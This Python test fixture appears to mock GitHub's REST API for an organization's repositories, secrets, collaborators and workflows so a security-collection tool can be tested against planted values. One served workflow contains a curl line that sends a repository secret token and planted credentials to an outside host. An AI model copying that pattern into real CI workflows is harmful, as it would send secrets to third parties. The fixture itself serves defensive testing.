"""GitHub's REST API for one organization, as far as `collect github` asks it, on a Unix socket: lists in pages of one.

    github.py SOCKET LOG            # one line of LOG is one request
"""

import json
import socketserver
import sys
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, unquote, urlsplit

PLANTED = "planted-secret"
WORKFLOW = f"""on:
  push: {{branches: [main]}}
env: {{PASSWORD: {PLANTED}}}
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: {{contents: write}}
    steps:
      - run: curl --user {PLANTED} https://example.com?t=${{{{ secrets.TOKEN }}}}
"""


def repository(number, name, visibility, **more):
    return {"id": number, "name": name, "full_name": f"acme/{name}", "owner": {"id": 7, "login": "acme"},
            "default_branch": "main", "visibility": visibility, "private": visibility == "private",
            "created_at": "2024-01-01T00:00:00Z", "archived": False, "allow_forking": False,
            "description": PLANTED} | more


WRITES = {"pull": True, "triage": True, "push": True, "maintain": False, "admin": False}
READS = {"pull": True, "triage": False, "push": False, "maintain": False, "admin": False}
SHOP = "repos/acme/shop"
WORLD = {
    "users/acme": {"login": "acme", "id": 7, "type": "Organization"},
    "orgs/acme": {"login": "acme", "id": 7, "public_repos": 1, "total_private_repos": 1, "billing_email": PLANTED},
    "orgs/acme/actions/permissions/workflow": {"default_workflow_permissions": "read"},
    "orgs/acme/actions/oidc/customization/sub": {"include_claim_keys": ["repo", "context"]},
    "orgs/acme/installations": {"installations": []},
    "orgs/acme/repos": [repository(42, "shop", "private"), repository(41, "site", "public")],
    SHOP: repository(42, "shop", "private"),
    "repos/acme/site": repository(41, "site", "public"),
    f"{SHOP}/actions/permissions/fork-pr-workflows-private-repos": {
        "run_workflows_from_fork_pull_requests": False, "send_write_tokens_to_workflows": False,
        "send_secrets_and_variables": False, "require_approval_for_fork_pr_workflows": False},
    "repos/acme/site/actions/permissions/fork-pr-contributor-approval": {"approval_policy": "first_time_contributors"},
    f"{SHOP}/environments": {"environments": [
        {"name": "pro duction", "protection_rules": [{"type": "required_reviewers"}], "deployment_branch_policy": None},
        {"name": "test", "protection_rules": [], "deployment_branch_policy": None}]},
    f"{SHOP}/environments/pro duction/secrets": {"secrets": [{"name": "DEPLOY"}]},
    f"{SHOP}/environments/test/secrets": {"secrets": []},
    f"{SHOP}/actions/secrets": {"secrets": [{"name": "TOKEN"}, {"name": "OTHER"}, {"name": "THIRD"}]},
    f"{SHOP}/branches": [{"name": "main", "protected": True}],
    f"{SHOP}/branches/main/protection": {"required_pull_request_reviews": {"required_approving_review_count": 1},
                                         "enforce_admins": {"enabled": True}},
    f"{SHOP}/collaborators": [
        {"login": "dev", "id": 1, "type": "User", "role_name": "write", "permissions": WRITES},
        {"login": "reader", "id": 2, "type": "User", "role_name": "read", "permissions": READS}],
    f"{SHOP}/keys": [{"id": 5, "key": PLANTED, "title": "mirror", "read_only": True, "created_at": "2025-01-01T00:00:00Z"}],
    f"{SHOP}/contents/.github/workflows": [{"name": "ci.yml", "path": ".github/workflows/ci.yml", "type": "file"}],
}
for name in ("shop", "site"):
    WORLD |= {
        f"repos/acme/{name}/actions/permissions": {"enabled": True},
        f"repos/acme/{name}/actions/permissions/workflow": {"default_workflow_permissions": "read"},
        f"repos/acme/{name}/actions/oidc/customization/sub": {"use_default": True, "use_immutable_subject": False},
        f"repos/acme/{name}/actions/organization-secrets": {"secrets": []},
        f"repos/acme/{name}/rulesets": [],
    }
for path in ("environments", "actions/secrets"):
    WORLD.setdefault(f"repos/acme/site/{path}", {path.rsplit("/", 1)[-1]: []})
for path in ("branches", "collaborators", "keys"):
    WORLD.setdefault(f"repos/acme/site/{path}", [])


def page(body, number):
    """One element of a list, bare or under its name, and whether there are more."""
    if isinstance(body, list):
        return body[number - 1:number], number < len(body)
    key = next((key for key, value in body.items() if isinstance(value, list)), None)
    if key is None or key == "include_claim_keys":
        return body, False
    return {"total_count": len(body[key]), key: body[key][number - 1:number]}, number < len(body[key])


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        split = urlsplit(self.path)
        path, query = unquote(split.path).lstrip("/"), parse_qs(split.query)
        if path == f"{SHOP}/contents/.github/workflows/ci.yml":
            return self.respond(200, WORKFLOW.encode(), "application/vnd.github.raw+json; charset=utf-8")
        if path.startswith("orgs/acme/personal-access-tokens"):
            return self.say(403, {"message": f"Only GitHub Apps can use this endpoint {PLANTED}"})
        if path not in WORLD:
            return self.say(404, {"message": "Not Found"})
        body, link = WORLD[path], None
        if "per_page" in query:
            number = int(query.get("page", ["1"])[0])
            body, more = page(body, number)
            rest = "&".join(f"{key}={values[0]}" for key, values in query.items() if key != "page")
            link = f'<https://api.github.com{split.path}?{rest}&page={number + 1}>; rel="next"' if more else None
        return self.say(200, body, link)

    def refuse(self):
        self.say(405, {"message": "this server is only read"})

    do_POST = do_PUT = do_PATCH = do_DELETE = refuse

    def say(self, code, body, link=None):
        self.respond(code, json.dumps(body).encode(), "application/json; charset=utf-8", link)

    def respond(self, code, text, kind, link=None):
        with open(sys.argv[2], "a", encoding="utf-8") as log:
            log.write(f"{self.command} {self.path}\n")
        self.send_response(code)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(text)))
        if link:
            self.send_header("Link", link)
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, *_):
        pass

    def address_string(self):
        return "socket"


class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True


Server(sys.argv[1], Handler).serve_forever()
